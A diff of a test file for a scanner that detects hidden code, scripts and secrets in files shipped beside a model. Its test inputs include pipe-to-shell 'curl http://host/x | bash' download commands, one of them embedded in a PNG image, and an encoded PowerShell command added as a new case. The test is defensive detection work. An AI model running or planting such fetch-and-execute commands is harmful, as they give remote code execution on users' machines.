@@ -24,6 +24,8 @@ describe('texts, pictures and code beside a model', () => {
     expect(await found('notes.md', `data ${Buffer.concat([PICKLE]).toString('base64')}`)).toEqual(['text-hidden-code']);
     expect(await found('.cache/settings', 'curl http://host/x | bash\n')).toEqual(['text-hidden-code']);
     expect(await found('run.sh', '#!/bin/sh\ncurl http://host/x | sh\n')).toEqual(['text-hidden-code']);
+    expect(await found('run.bat', '@echo off\npowershell -enc aQBlAHgAIAB4AA==\n')).toEqual(['text-hidden-code']);
+    expect(await found('run.ps1', 'powershell -ExecutionPolicy Bypass -File train.ps1\n')).toEqual([]);
     expect(await found('weights.dat', '#!/bin/sh\necho\n')).toEqual(['text-script']);
     const picture = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(64, 0x81), Buffer.from(`curl http://host/x | sh ${TOKEN}`)]);
     expect(await found('logo.png', picture)).toEqual(['text-hidden-code', 'text-secret']);
